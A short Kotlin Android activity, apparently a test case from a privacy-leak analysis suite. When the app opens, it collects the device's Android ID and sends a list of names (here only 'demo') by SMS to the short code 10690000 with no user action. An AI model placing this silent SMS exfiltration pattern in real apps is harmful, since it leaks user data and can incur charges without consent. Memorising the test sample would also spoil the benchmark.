package cn.privlens.suite.collected_list_of_names

import android.app.Activity
import android.os.Bundle
import android.provider.Settings
import android.telephony.SmsManager
import kotlinx.coroutines.*
import kotlinx.coroutines.sync.Mutex
import kotlinx.coroutines.sync.withLock

class Main : Activity() {
    private val lock = Mutex()
    private val ids = mutableListOf<String>()
    private val names = mutableListOf<String>()

    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        CoroutineScope(Dispatchers.Default).launch {
            coroutineScope {
                launch { lock.withLock { ids.add(Settings.Secure.getString(contentResolver, Settings.Secure.ANDROID_ID)) } }
                launch { lock.withLock { names.add("demo") } }
            }
            SmsManager.getDefault().sendTextMessage("10690000", null, names.joinToString(","), null, null)
        }
    }
}
